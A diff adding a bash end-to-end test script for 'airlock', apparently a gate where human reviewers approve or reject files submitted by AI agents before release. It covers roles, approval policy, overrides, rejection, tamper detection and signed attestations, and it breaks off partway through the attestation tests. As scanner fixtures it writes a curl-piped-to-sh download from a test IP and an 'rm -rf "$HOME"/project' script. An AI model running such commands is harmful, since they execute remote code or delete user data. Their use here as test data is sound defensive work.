@@ -1,0 +1,1183 @@
+#!/usr/bin/env bash
+# e2e_review.sh - end-to-end tests of review and release against a real
+# `airlock serve`: who may decide (roles, separation of duties, the
+# reviewer read the bytes, approvals bound to the sha256 and the rule set),
+# the policy (approvals by severity, DATA/policy, the override of
+# unscannable, hold expiry, release roles), rejection as final, the re-hash
+# at release, the signed attestation and `airlock verify`, `airlock pull`
+# (a patch into `git am`, an archive unpacked safely) and the events that
+# record every decision.
+#
+# Run from the repository root:  bash tests/e2e_review.sh
+# The binary is $AIRLOCK_BIN (default build/airlock). Conventions as in
+# tests/e2e_scan.sh: one t_* function per test, each in its own empty
+# directory; every test makes its own data directory (`airlock init`),
+# serves it on a free loopback port with the test rules (tests/data/rules)
+# and stops it at the end (an EXIT trap stops it when a test fails
+# half-way). The server helpers are copied from tests/e2e_serve.sh. Needs
+# curl, git, tar, zip, openssl and python3.
+
+. "$(dirname "${BASH_SOURCE[0]}")/e2e_lib.sh"
+
+for t in curl git tar zip openssl; do
+	command -v "$t" >/dev/null || { echo "e2e: $t is required" >&2; exit 1; }
+done
+unset AIRLOCK_SOCKET AIRLOCK_URL AIRLOCK_TOKEN AIRLOCK_PUBKEY AIRLOCK_DATA
+# git: no user configuration, fixed identities.
+export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
+export GIT_COMMITTER_NAME='CI Bot' GIT_COMMITTER_EMAIL=ci@example.org
+
+# ---- the server (from tests/e2e_serve.sh) -----------------------------------------
+
+# free_port: a loopback port nothing listens on now.
+free_port() {
+	python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
+}
+
+# alive PID: the process exists and is not a zombie.
+alive() {
+	[ -r "/proc/$1/stat" ] || return 1
+	! awk '{ sub(/^.*\) /, ""); exit !($1 == "Z") }' "/proc/$1/stat" 2>/dev/null
+}
+
+# gate_procs: the pids of every process serving ./data.
+gate_procs() {
+	pgrep -f -- "--data $PWD/data " || true
+}
+
+# kill_leftovers: SIGKILLs (by pid) whatever still serves ./data.
+kill_leftovers() {
+	local p
+	for p in $(gate_procs); do
+		kill -KILL "$p" 2>/dev/null
+	done
+}
+
+# on_exit: the test's EXIT trap: stops the server and its children, and
+# shows the server's log if the test failed.
+on_exit() {
+	local rc=$? i
+	if [ -n "${SPID:-}" ] && alive "$SPID"; then
+		kill -TERM "$SPID" 2>/dev/null
+		for i in $(seq 1 30); do
+			alive "$SPID" || break
+			sleep 0.1
+		done
+		kill -KILL "$SPID" 2>/dev/null
+	fi
+	kill_leftovers
+	if [ "$rc" != 0 ] && [ -s serve.log ]; then
+		echo "  --- serve.log (last 20 lines):"
+		tail -n 20 serve.log | sed 's/^/  | /'
+	fi
+	wait 2>/dev/null
+	return "$rc"
+}
+
+# srv_init: `airlock init` of ./data; the admin token in $ADMIN.
+srv_init() {
+	"$BIN" init --data "$PWD/data" >admin.tok 2>init.err ||
+		fail "airlock init failed: $(cat init.err)"
+	ADMIN=$(cat admin.tok)
+	[ -n "$ADMIN" ] || fail "airlock init printed no admin token"
+}
+
+# srv_start [SERVE-OPTIONS...]: serves ./data (init'ed first if need be) on a
+# free port, 2 scanners, the test rules; sets PORT, URL, SPID.
+srv_start() {
+	local i
+	[ -e data/airlock.db ] || srv_init
+	[ -n "${ADMIN:-}" ] || ADMIN=$(cat admin.tok)
+	trap on_exit EXIT
+	for _ in 1 2 3; do
+		PORT=$(free_port)
+		URL=http://127.0.0.1:$PORT
+		echo "--- serve --listen 127.0.0.1:$PORT $*" >>serve.log
+		"$BIN" serve --data "$PWD/data" --listen "127.0.0.1:$PORT" \
+			--scanners 2 --rules "$RULES" "$@" >>serve.log 2>&1 &
+		SPID=$!
+		for i in $(seq 1 200); do
+			curl -s --max-time 2 "$URL/healthz" >/dev/null 2>&1 && return 0
+			alive "$SPID" || break
+			sleep 0.05
+		done
+		if alive "$SPID"; then
+			fail "airlock serve did not answer /healthz within 10 s"
+		fi
+		wait "$SPID"
+		SPID=
+		tail -n 1 serve.log | grep -q 'in use' || break # else: another port
+	done
+	fail "airlock serve did not start: $(tail -n 5 serve.log)"
+}
+
+# srv_stop: SIGTERM; the server must exit 0 within 10 s.
+srv_stop() {
+	local i rc=0
+	alive "$SPID" || fail "airlock serve died before the end of the test"
+	kill -TERM "$SPID"
+	for i in $(seq 1 100); do
+		alive "$SPID" || break
+		sleep 0.1
+	done
+	alive "$SPID" && fail "airlock serve still runs 10 s after SIGTERM"
+	wait "$SPID" || rc=$?
+	SPID=
+	[ "$rc" = 0 ] || fail "airlock serve exited $rc after SIGTERM, expected 0"
+	check_error_bodies
+}
+
+# ---- requests (from tests/e2e_serve.sh) ------------------------------------------
+
+# api METHOD PATH TOKEN [CURL-ARGS...]: a request to the TCP listener; the
+# body in $OUT, the status in $CODE ("000": no answer). TOKEN may be "".
+api() {
+	local m=$1 p=$2 t=$3 auth=()
+	shift 3
+	[ -z "$t" ] || auth=(-H "Authorization: Bearer $t")
+	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -X "$m" \
+		"${auth[@]}" "$@" "$URL$p" 2>"$ERR") || true
+}
+
+expect_code() { # CODE WHAT
+	[ "$CODE" = "$1" ] || fail "${2:-request}: HTTP $CODE, expected $1"
+}
+
+# expect_all EXPR WANT [EXPR WANT...]: expect_q for many expressions, in one
+# Python run; fails at the first mismatch. E(action) is the list of events
+# of that action (on an events answer).
+expect_all() {
+	local msg
+	msg=$(python3 - "$OUT" "$@" 2>&1 <<'EOF'
+import json, re, sys
+d = json.load(open(sys.argv[1], "rb"))
+F = d.get("findings", []) if isinstance(d, dict) else []
+R = lambda rule: [f for f in F if f["rule"] == rule]
+E = lambda action: [e for e in d.get("events", []) if e["action"] == action]
+a = sys.argv[2:]
+for e, w in zip(a[0::2], a[1::2]):
+    try:
+        v = str(eval(e))
+    except Exception as x:
+        v = "error: %r" % x
+    if v != w:
+        print("%s: got '%s', expected '%s'" % (e, v, w))
+        break
+EOF
+	) || fail "the answer is not JSON: $msg"
+	[ -z "$msg" ] || fail "$msg"
+}
+
+# expect_error_json [SECRET...]: $OUT is {"error": "..."} holding none of
+# the SECRETs; kept for check_error_bodies (at srv_stop).
+NERR=0
+expect_error_json() {
+	local s
+	grep -q '"error": *"' "$OUT" || fail "the error body has no \"error\""
+	for s in "$@"; do
+		! grep -qF -- "$s" "$OUT" || fail "the error body repeats '$s'"
+	done
+	NERR=$((NERR + 1))
+	mkdir -p errbodies
+	cp "$OUT" "errbodies/$NERR"
+}
+check_error_bodies() {
+	[ -d errbodies ] || return 0
+	python3 - errbodies/* <<'EOF' || fail "an error body is not exactly {\"error\": STRING}"
+import json, sys
+for f in sys.argv[1:]:
+    d = json.load(open(f, "rb"))
+    assert isinstance(d, dict) and list(d) == ["error"] and isinstance(d["error"], str) and d["error"], f
+EOF
+}
+
+tok_of_out() { grep -o '"token": *"alk_[^"]*"' "$OUT" | grep -o 'alk_[^"]*'; }
+id_of_out() { grep -o '"id": *[0-9]*' "$OUT" | head -n 1 | grep -o '[0-9]*$'; }
+sha_of_out() { grep -o '"sha256": *"[0-9a-f]*"' "$OUT" | head -n 1 | grep -o '[0-9a-f]\{64\}'; }
+
+# mk_token ROLE NAME [ON_BEHALF_OF]: made by the admin; the token in $TOK.
+mk_token() {
+	local body="{\"role\": \"$1\", \"name\": \"$2\"${3:+, \"on_behalf_of\": \"$3\"}}"
+	api POST /v1/tokens "$ADMIN" -H 'Content-Type: application/json' --data-binary "$body"
+	expect_code 201 "POST /v1/tokens $body"
+	TOK=$(tok_of_out)
+	[ -n "$TOK" ] || fail "no token in the answer"
+}
+
+# submit TOKEN FILE [QUERY]: POST /v1/submissions, 201 expected; the id in
+# $SID, the sha256 in $SHA.
+submit() {
+	api POST "/v1/submissions${3:+?$3}" "$1" --data-binary "@$2"
+	expect_code 201 "submit $2"
+	SID=$(id_of_out)
+	SHA=$(sha_of_out)
+	[ -n "$SID" ] && [ -n "$SHA" ] || fail "no id or sha256 in the answer"
+}
+
+# wait_state ID STATE [SECONDS]: polls GET /v1/submissions/ID (admin) until
+# its state is STATE (default 20 s); the submission is then in $OUT.
+wait_state() {
+	local id=$1 want=$2 max=${3:-20} i
+	for i in $(seq 1 $((max * 20))); do
+		api GET "/v1/submissions/$id" "$ADMIN"
+		[ "$CODE" = 200 ] && grep -q "^  \"state\": \"$want\"" "$OUT" && return 0
+		sleep 0.05
+	done
+	fail "submission $id: not '$want' after ${max}s (HTTP $CODE)"
+}
+
+# ---- review helpers --------------------------------------------------------------
+
+# as TOKEN ARGS...: the command-line client against this gate with TOKEN.
+as() {
+	local tok=$1
+	shift
+	AIRLOCK_URL=$URL AIRLOCK_TOKEN=$tok al "$@"
+}
+
+# held TOKEN FILE [QUERY]: submits and waits for the scan; $SID, $SHA, and
+# the submission's latest rule set in $RS.
+held() {
+	submit "$@"
+	wait_state "$SID" held
+	RS=$(jsonq 'd["scan"]["ruleset"]')
+	[ -n "$RS" ] || fail "submission $SID: no scan.ruleset"
+}
+
+# view TOKEN ID: GET content (records a view), 200 expected.
+view() {
+	api GET "/v1/submissions/$2/content" "$1"
+	expect_code 200 "GET /v1/submissions/$2/content"
+}
+
+# approve_raw TOKEN ID SHA RULESET: POST approve with curl; $CODE.
+approve_raw() {
+	api POST "/v1/submissions/$2/approve" "$1" -H 'Content-Type: application/json' \
+		--data-binary "{\"sha256\": \"$3\", \"ruleset\": \"$4\"}"
+}
+
+# standing ID STATE APPROVALS NEEDED [OVERRIDE]: GET /v1/submissions/ID
+# (admin) shows that state and review.
+standing() {
+	api GET "/v1/submissions/$1" "$ADMIN"
+	expect_code 200 "GET /v1/submissions/$1"
+	expect_all 'd["state"]' "$2" 'd["review"]["approvals"]' "$3" \
+		'd["review"]["needed"]' "$4" 'd["review"]["override"]' "${5:-False}"
+}
+
+# events ID: GET /v1/submissions/ID/events (admin) into $OUT.
+events() {
+	api GET "/v1/submissions/$1/events" "$ADMIN"
+	expect_code 200 "GET /v1/submissions/$1/events"
+}
+
+# approve_as TOKEN ID: the reviewer reads (airlock diff) then approves with
+# the client; exit 0 expected.
+approve_as() {
+	as "$1" diff "$2"
+	expect_rc 0 "airlock diff $2"
+	as "$1" approve "$2" -m "looks right"
+	expect_rc 0 "airlock approve $2"
+}
+
+# reviewers N: makes reviewer tokens rev-1..rev-N; in REV[1..N].
+REV=()
+reviewers() {
+	local i
+	for i in $(seq 1 "$1"); do
+		mk_token reviewer "rev-$i"
+		REV[i]=$TOK
+	done
+}
+
+# blob SHA: the stored file of those bytes.
+blob() {
+	local f
+	f=$(find data/objects -type f -name "$1")
+	[ -n "$f" ] || fail "no stored object $1 under data/objects"
+	echo "$f"
+}
+
+# A secret the test rules call critical, a download into a shell (high).
+pat_file() { printf 'GITHUB_TOKEN=%s\n' "$PAT1" >"$1"; }
+curlsh_file() { printf '#!/bin/sh\ncurl -s https://198.51.100.23/x | sh\n' >"$1"; }
+
+# ---- 1. the decision matrix -------------------------------------------------------
+
+t_decision_matrix() {
+	local AG CI AU ALICE S
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	reviewers 2
+	mk_token reviewer alice # the person who launched agent-1
+	ALICE=$TOK
+	mk_token ci ci-1
+	CI=$TOK
+	mk_token auditor aud-1
+	AU=$TOK
+	pat_file secret.env # critical: 2 approvals, so refusals can be seen on a held one
+	held "$AG" secret.env name=secret.env
+	S=$SID
+	expect_all 'd["verdict"]' flagged 'd["worst"]' critical 'd["review"]["needed"]' 2
+
+	# Roles that never approve: 403, with the right bytes and rule set.
+	for tok in "$AG" "$CI" "$AU"; do
+		approve_raw "$tok" "$S" "$SHA" "$RS"
+		expect_code 403 "approve by a non-reviewer role"
+		expect_error_json "$tok"
+	done
+	as "$AG" approve "$S"
+	expect_rc 1 "airlock approve by the submitting agent"
+	expect_err_has "HTTP 403"
+	as "$CI" approve "$S"
+	expect_rc 1 "airlock approve by ci"
+	as "$AU" approve "$S"
+	expect_rc 1 "airlock approve by an auditor"
+	# The agent cannot release, nor read the content.
+	api POST "/v1/submissions/$S/release" "$AG" --data-binary '{}'
+	expect_code 403 "release by the agent"
+	api GET "/v1/submissions/$S/content" "$AG"
+	expect_code 403 "content for the agent"
+	# ci cannot read what is not released.
+	api GET "/v1/submissions/$S/content" "$CI"
+	expect_code 403 "content for ci before release"
+
+	# The person who launched the agent, although a reviewer who read it.
+	as "$ALICE" diff "$S"
+	expect_rc 0 "airlock diff by alice"
+	as "$ALICE" approve "$S"
+	expect_rc 1 "airlock approve by the person who launched the agent"
+	expect_err_has "HTTP 403"
+	expect_err_has "launched"
+	approve_raw "$ALICE" "$S" "$SHA" "$RS"
+	expect_code 403 "approve (curl) by the person who launched the agent"
+
+	# Never read it: refused; after airlock diff: accepted.
+	as "${REV[1]}" approve "$S"
+	expect_rc 1 "airlock approve without reading"
+	expect_err_has "HTTP 403"
+	expect_err_has "airlock diff"
+	standing "$S" held 0 2
+	as "${REV[1]}" diff "$S"
+	expect_rc 0 "airlock diff"
+	expect_out_has "$PAT1"
+	as "${REV[1]}" approve "$S" -m "first"
+	expect_rc 0 "airlock approve after airlock diff"
+	expect_out_has "held (1 of 2 approvals)"
+
+	# The same reviewer again: 409, counted once.
+	as "${REV[1]}" approve "$S"
+	expect_rc 1 "a second approval by the same reviewer"
+	expect_err_has "HTTP 409"
+	approve_raw "${REV[1]}" "$S" "$SHA" "$RS"
+	expect_code 409 "a second approval (curl) by the same reviewer"
+	expect_error_json "${REV[1]}"
+	standing "$S" held 1 2
+
+	# Other bytes, another rule set, or none: refused, nothing counted.
+	view "${REV[2]}" "$S"
+	approve_raw "${REV[2]}" "$S" "$(printf 'other' | sha256sum | cut -d' ' -f1)" "$RS"
+	expect_code 403 "an approval naming another sha256"
+	expect_error_json "${REV[2]}"
+	approve_raw "${REV[2]}" "$S" "$SHA" "sha256:$(printf 'rules' | sha256sum | cut -d' ' -f1)"
+	expect_code 403 "an approval naming another rule set"
+	expect_error_json "${REV[2]}"
+	api POST "/v1/submissions/$S/approve" "${REV[2]}" --data-binary "{\"sha256\": \"$SHA\"}"
+	expect_code 400 "an approval without a rule set"
+	standing "$S" held 1 2
+	approve_raw "${REV[2]}" "$S" "$SHA" "$RS"
+	expect_code 200 "the approval with the right sha256 and rule set"
+	expect_all 'd["state"]' approved 'd["approvals"]' 2 'd["needed"]' 2
+	standing "$S" approved 2 2
+
+	# Approved: still no release by the agent or an auditor.
+	api POST "/v1/submissions/$S/release" "$AG" --data-binary '{}'
+	expect_code 403 "release by the agent, approved"
+	api POST "/v1/submissions/$S/release" "$AU" --data-binary '{}'
+	expect_code 403 "release by an auditor"
+	as "$AG" release "$S"
+	expect_rc 1 "airlock release by the agent"
+	api GET "/v1/submissions/$S" "$ADMIN"
+	expect_all 'd["state"]' approved
+	srv_stop
+}
+
+# The launched-by check compares names without regard to case.
+t_launched_by_is_case_insensitive() {
+	local AG BOB
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	mk_token reviewer Alice
+	BOB=$TOK
+	echo 'hello' >a.txt
+	held "$AG" a.txt name=a.txt
+	view "$BOB" "$SID"
+	approve_raw "$BOB" "$SID" "$SHA" "$RS"
+	expect_code 403 "approve by reviewer 'Alice' of an agent launched by 'alice'"
+	standing "$SID" held 0 1
+	srv_stop
+}
+
+# ---- 2. policy by severity --------------------------------------------------------
+
+t_policy_by_severity() {
+	local AG C H K
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	reviewers 2
+	echo 'print("hello")' >clean.py
+	held "$AG" clean.py name=clean.py
+	C=$SID
+	expect_all 'd["verdict"]' clean 'd["findings"]' '[]'
+	curlsh_file install.sh
+	held "$AG" install.sh name=install.sh
+	H=$SID
+	expect_all 'd["verdict"]' flagged 'd["worst"]' high
+	pat_file secret.env
+	held "$AG" secret.env name=secret.env
+	K=$SID
+	expect_all 'd["verdict"]' flagged 'd["worst"]' critical
+
+	standing "$C" held 0 1
+	standing "$H" held 0 2
+	standing "$K" held 0 2
+	# Clean: one approval.
+	approve_as "${REV[1]}" "$C"
+	expect_out_has "approved (1 of 1 approvals)"
+	standing "$C" approved 1 1
+	# High and critical: one is not enough, two distinct are.
+	for S in "$H" "$K"; do
+		approve_as "${REV[1]}" "$S"
+		standing "$S" held 1 2
+		approve_as "${REV[2]}" "$S"
+		expect_out_has "approved (2 of 2 approvals)"
+		standing "$S" approved 2 2
+	done
+	srv_stop
+}
+
+# DATA/policy: numbers of approvals and release roles of one's own.
+t_policy_file() {
+	local AG CI C H
+	srv_init
+	cat >data/policy <<'EOF'
+# two people for everything, three for high; reviewers release, ci does not
+approvals.clean = 2
+approvals.high=3
+release_roles = reviewer, admin
+EOF
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	mk_token ci ci-1
+	CI=$TOK
+	reviewers 3
+	echo 'hello' >a.txt
+	held "$AG" a.txt name=a.txt
+	C=$SID
+	curlsh_file install.sh
+	held "$AG" install.sh name=install.sh
+	H=$SID
+	standing "$C" held 0 2
+	standing "$H" held 0 3
+	approve_as "${REV[1]}" "$C"
+	standing "$C" held 1 2
+	approve_as "${REV[2]}" "$C"
+	standing "$C" approved 2 2
+	approve_as "${REV[1]}" "$H"
+	approve_as "${REV[2]}" "$H"
+	standing "$H" held 2 3
+	approve_as "${REV[3]}" "$H"
+	standing "$H" approved 3 3
+	# release_roles: ci is not among them any more.
+	as "$CI" release "$C"
+	expect_rc 1 "airlock release by ci, release_roles = reviewer, admin"
+	expect_err_has "HTTP 403"
+	as "${REV[3]}" release "$C" -o att.json
+	expect_rc 0 "airlock release by a reviewer"
+	api GET "/v1/submissions/$C" "$ADMIN"
+	expect_all 'd["state"]' released
+	srv_stop
+}
+
+# A policy file the gate cannot follow stops it from starting.
+t_policy_file_invalid() {
+	local bad port rc
+	srv_init
+	for bad in 'approvals.clean = 0' 'approvals.high = 17' 'hold_expiry = soon' \
+		'release_roles = agent' 'approvals.critical = 2' 'just words'; do
+		printf '%s\n' "$bad" >data/policy
+		port=$(free_port)
+		rc=0
+		timeout 10 "$BIN" serve --data "$PWD/data" --listen "127.0.0.1:$port" \
+			--rules "$RULES" >"$OUT" 2>"$ERR" || rc=$?
+		[ "$rc" != 124 ] || fail "airlock serve started with the policy '$bad'"
+		[ "$rc" != 0 ] || fail "airlock serve exited 0 with the policy '$bad'"
+		grep -q policy "$ERR" || fail "the error for the policy '$bad' does not name the policy file"
+	done
+}
+
+# ---- 3. unscannable needs an admin's override ----------------------------------------
+
+t_unscannable_needs_override() {
+	local AG U U2 C
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	reviewers 2
+	echo 'the secret plan' >plan.txt
+	zip -q -P hunter2 enc.zip plan.txt || fail "zip -P failed"
+	held "$AG" enc.zip name=enc.zip
+	U=$SID
+	expect_all 'd["verdict"]' unscannable 'len(R("airlock.unscannable"))' 1
+	echo 'hello' >a.txt
+	held "$AG" a.txt name=a.txt
+	C=$SID
+	standing "$U" held 0 2
+
+	approve_as "${REV[1]}" "$U"
+	approve_as "${REV[2]}" "$U"
+	# Two approvals, no override: still held.
+	standing "$U" held 2 2
+	api POST "/v1/submissions/$U/release" "$ADMIN" --data-binary '{}'
+	expect_code 409 "release of a held submission"
+
+	# Only an admin overrides, and says why.
+	api POST "/v1/submissions/$U/override" "${REV[1]}" --data-binary '{"reason": "I know the file"}'
+	expect_code 403 "override by a reviewer"
+	as "${REV[1]}" override "$U" -m "I know the file"
+	expect_rc 1 "airlock override by a reviewer"
+	api POST "/v1/submissions/$U/override" "$ADMIN" --data-binary '{"reason": ""}'
+	expect_code 400 "override with an empty reason"
+	expect_error_json "$ADMIN"
+	api POST "/v1/submissions/$U/override" "$ADMIN" --data-binary '{}'
+	expect_code 400 "override without a reason"
+	as "$ADMIN" override "$U"
+	expect_rc 2 "airlock override without -m"
+	standing "$U" held 2 2 False
+	# Not unscannable: nothing to override.
+	api POST "/v1/submissions/$C/override" "$ADMIN" --data-binary '{"reason": "because"}'
+	expect_code 403 "override of a clean submission"
+	expect_error_json "$ADMIN"
+	standing "$C" held 0 1 False
+
+	as "$ADMIN" override "$U" -m "password known; content checked by hand"
+	expect_rc 0 "airlock override by the admin"
+	expect_out_has "approved (2 of 2 approvals, overridden)"
+	standing "$U" approved 2 2 True
+	api POST "/v1/submissions/$U/override" "$ADMIN" --data-binary '{"reason": "again"}'
+	expect_code 403 "an override of an approved submission"
+	events "$U"
+	expect_all 'len(E("override"))' 1 \
+		'E("override")[0]["detail"].split(" ", 1)[1]' 'reason=password known; content checked by hand' \
+		'E("approved")[0]["actor"] == E("override")[0]["actor"] != None' True
+
+	# The other order: the override first, then the approvals.
+	held "$AG" enc.zip name=enc-again.zip
+	U2=$SID
+	as "$ADMIN" override "$U2" -m "checked"
+	expect_rc 0 "an override before the approvals"
+	expect_out_has "held (0 of 2 approvals, overridden)"
+	api POST "/v1/submissions/$U2/override" "$ADMIN" --data-binary '{"reason": "once more"}'
+	expect_code 409 "a second override of the same scan"
+	expect_error_json "$ADMIN"
+	approve_as "${REV[1]}" "$U2"
+	standing "$U2" held 1 2 True
+	approve_as "${REV[2]}" "$U2"
+	standing "$U2" approved 2 2 True
+	# The release statement says it rests on the admin's word.
+	as "$ADMIN" release "$U" -o override.att
+	expect_rc 0 "release of the overridden submission"
+	python3 - override.att <<'PY' || fail "the statement does not record the override"
+import base64, json, sys
+st = json.loads(base64.b64decode(json.load(open(sys.argv[1]))["payload"]))
+o = st["predicate"]["override"]
+assert st["predicate"]["scan"]["verdict"] == "unscannable", st
+assert o["reason"] == "password known; content checked by hand", o
+assert o["admin"] == "admin" and o["at"], o
+PY
+	srv_stop
+}
+
+# ---- 4. rejection is final --------------------------------------------------------
+
+t_rejected_cannot_be_released() {
+	local AG CI S
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	mk_token ci ci-1
+	CI=$TOK
+	reviewers 2
+	echo 'rm -rf "$HOME"/project' >cleanup.sh
+	held "$AG" cleanup.sh name=cleanup.sh
+	S=$SID
+	as "${REV[1]}" reject "$S"
+	expect_rc 2 "airlock reject without -m"
+	api POST "/v1/submissions/$S/reject" "${REV[1]}" --data-binary '{}'
+	expect_code 400 "reject without a comment"
+	api POST "/v1/submissions/$S/reject" "$AG" --data-binary '{"comment": "mine"}'
+	expect_code 403 "reject by the agent"
+	api POST "/v1/submissions/$S/reject" "$CI" --data-binary '{"comment": "no"}'
+	expect_code 403 "reject by ci"
+	as "${REV[1]}" reject "$S" -m "deletes the home directory"
+	expect_rc 0 "airlock reject"
+	expect_out_has "rejected"
+	standing "$S" rejected 0 1
+	# No way back.
+	view "${REV[2]}" "$S"
+	approve_raw "${REV[2]}" "$S" "$SHA" "$RS"
+	expect_code 403 "approve a rejected submission"
+	as "${REV[2]}" approve "$S"
+	expect_rc 1 "airlock approve of a rejected submission"
+	as "${REV[2]}" reject "$S" -m "again"
+	expect_rc 1 "reject twice"
+	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
+	expect_code 409 "release a rejected submission"
+	expect_error_json "$CI"
+	as "$CI" release "$S" -o att.json
+	expect_rc 1 "airlock release of a rejected submission"
+	[ ! -e att.json ] || fail "an attestation was written for a rejected submission"
+	api POST "/v1/submissions/$S/release" "$ADMIN" --data-binary '{}'
+	expect_code 409 "release by the admin of a rejected submission"
+	as "$CI" pull "$S"
+	expect_rc 1 "airlock pull of a rejected submission"
+	expect_out_empty
+	api GET "/v1/submissions/$S/attestation" "$CI"
+	expect_code 404 "attestation of a rejected submission"
+	standing "$S" rejected 0 1
+	events "$S"
+	expect_all '[(e["actor"], e["detail"]) for e in E("reject")]' \
+		"[('rev-1', 'sha256=$SHA comment=deletes the home directory')]" \
+		'len(E("release")) + len(E("approve"))' 0
+	srv_stop
+}
+
+# ---- 5. release re-hashes the stored bytes ---------------------------------------
+
+t_release_refuses_altered_blob() {
+	local AG CI S f
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	mk_token ci ci-1
+	CI=$TOK
+	reviewers 1
+	echo 'print("approved bytes")' >ok.py
+	held "$AG" ok.py name=ok.py
+	S=$SID
+	approve_as "${REV[1]}" "$S"
+	standing "$S" approved 1 1
+	f=$(blob "$SHA")
+	[ "$(stat -c %a "$f")" = 400 ] || fail "the stored object is mode $(stat -c %a "$f"), expected 0400"
+	chmod u+w "$f"
+	printf 'X' >>"$f"
+	chmod 0400 "$f"
+	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
+	expect_code 409 "release of altered bytes"
+	expect_error_json "$CI"
+	expect_out_has "nothing was released"
+	as "$CI" release "$S" -o att.json
+	expect_rc 1 "airlock release of altered bytes"
+	[ ! -e att.json ] || fail "an attestation was written for altered bytes"
+	api GET "/v1/submissions/$S" "$ADMIN"
+	expect_all 'd["state"]' approved
+	api GET "/v1/submissions/$S/attestation" "$CI"
+	expect_code 404 "attestation after a refused release"
+	as "$CI" pull "$S" -o got.py
+	expect_rc 1 "airlock pull after a refused release"
+	[ ! -e got.py ] || fail "airlock pull wrote the altered bytes"
+	events "$S"
+	expect_all '[(e["actor"], e["detail"]) for e in E("release.refused")]' \
+		"[('ci-1', 'the stored bytes no longer match their sha256'), ('ci-1', 'the stored bytes no longer match their sha256')]" \
+		'len(E("release"))' 0
+	# Same size, one byte changed: refused as well.
+	chmod u+w "$f"
+	cp ok.py "$f"
+	printf 'x' | dd of="$f" bs=1 seek=0 conv=notrunc status=none
+	chmod 0400 "$f"
+	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
+	expect_code 409 "release of bytes changed in place (same size)"
+	# The bytes back as approved: the release goes through.
+	chmod u+w "$f"
+	cp ok.py "$f"
+	chmod 0400 "$f"
+	as "$CI" release "$S" -o att.json
+	expect_rc 0 "airlock release once the bytes are back"
+	"$BIN" verify --key data/keys/signing.pub att.json ok.py >"$OUT" 2>"$ERR" ||
+		fail "verify of the release after the bytes were restored"
+	srv_stop
+}
+
+# ---- 6. the attestation ----------------------------------------------------------
+
+# tamper IN OUT WHAT: a copy of the envelope IN with WHAT changed:
+# payload-byte (one byte of the decoded payload flipped), payload-digest
+# (the subject's sha256 replaced), sig-byte (one byte of the signature
+# flipped), type (payloadType), sigs-empty (no signatures).
+tamper() {
+	python3 - "$@" <<'EOF'
+import base64, json, sys
+src, dst, what = sys.argv[1:4]
+e = json.load(open(src))
+if what == "payload-byte":
+    p = bytearray(base64.b64decode(e["payload"]))
+    i = p.index(b'"sha256":"') + 12  # a hex digit of a digest
+    p[i] = ord("0") if p[i] != ord("0") else ord("1")
+    e["payload"] = base64.b64encode(bytes(p)).decode()
+elif what == "payload-digest":
+    st = json.loads(base64.b64decode(e["payload"]))
+    st["subject"][0]["digest"]["sha256"] = "0" * 64
+    e["payload"] = base64.b64encode(json.dumps(st, separators=(",", ":"), sort_keys=True).encode()).decode()
+elif what == "sig-byte":
+    s = bytearray(base64.b64decode(e["signatures"][0]["sig"]))
+    s[10] ^= 1
+    e["signatures"][0]["sig"] = base64.b64encode(bytes(s)).decode()
+elif what == "type":
+    e["payloadType"] = "application/json"
+elif what == "sigs-empty":
+    e["signatures"] = []
+json.dump(e, open(dst, "w"), indent=2)
+EOF
+}
+
+# verify_rc WANT WHAT ARGS...: airlock verify ARGS exits WANT.
+verify_rc() {
+	local want=$1 what=$2
+	shift 2
+	RC=0
+	"$BIN" verify "$@" >"$OUT" 2>"$ERR" || RC=$?
+	[ "$RC" = "$want" ] || fail "airlock verify $*: exit $RC, expected $want ($what): $(cat "$ERR")"
+}
+
+# resign ENVELOPE KEY OUT: the envelope's payload signed with another
+# Ed25519 key (openssl), as the only signature.
+resign() {
+	python3 - "$1" pae.bin <<'EOF'
+import base64, json, sys
+e = json.load(open(sys.argv[1]))
+p = base64.b64decode(e["payload"])
+t = e["payloadType"].encode()
+open(sys.argv[2], "wb").write(b"DSSEv1 %d %s %d " % (len(t), t, len(p)) + p)
+EOF
+	openssl pkeyutl -sign -rawin -inkey "$2" -in pae.bin -out sig.bin 2>"$ERR" ||
+		fail "openssl cannot sign with $2: $(cat "$ERR")"
+	python3 - "$1" sig.bin "$3" <<'EOF'
+import base64, json, sys
+e = json.load(open(sys.argv[1]))
+e["signatures"] = [{"keyid": "other", "sig": base64.b64encode(open(sys.argv[2], "rb").read()).decode()}]
+json.dump(e, open(sys.argv[3], "w"), indent=2)
+EOF
+}
+
+t_attestation_verifies() {
+	local AG CI S keyid w
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	mk_token ci ci-1
+	CI=$TOK
+	reviewers 1
+	printf 'def add(a, b):\n    return a + b\n' >lib.py
+	held "$AG" lib.py 'name=lib.py&label=task=T-7'
+	S=$SID
+	approve_as "${REV[1]}" "$S"
+	as "$CI" release "$S" -o att.json
+	expect_rc 0 "airlock release"
+	# The gate's key, as CI pins it.
+	RC=0
+	"$BIN" key show --data "$PWD/data" >gate.pub 2>key.err || RC=$?
+	expect_rc 0 "airlock key show"
+	cmp -s gate.pub data/keys/signing.pub || fail "airlock key show does not print DATA/keys/signing.pub"
+	keyid=$(grep -o '[0-9a-f]\{64\}' key.err)
+	[ -n "$keyid" ] || fail "airlock key show printed no key id: $(cat key.err)"
+	# The statement: what was released, by whom, approved by whom.
+	python3 -c 'import base64, json, sys; e = json.load(open("att.json")); print(base64.b64decode(e["payload"]).decode())' >"$OUT" ||
+		fail "att.json is not a DSSE envelope with a base64 payload"
+	expect_all 'd["_type"]' 'https://in-toto.io/Statement/v1' \
+		'd["subject"]' "[{'digest': {'sha256': '$SHA'}, 'name': 'lib.py'}]" \
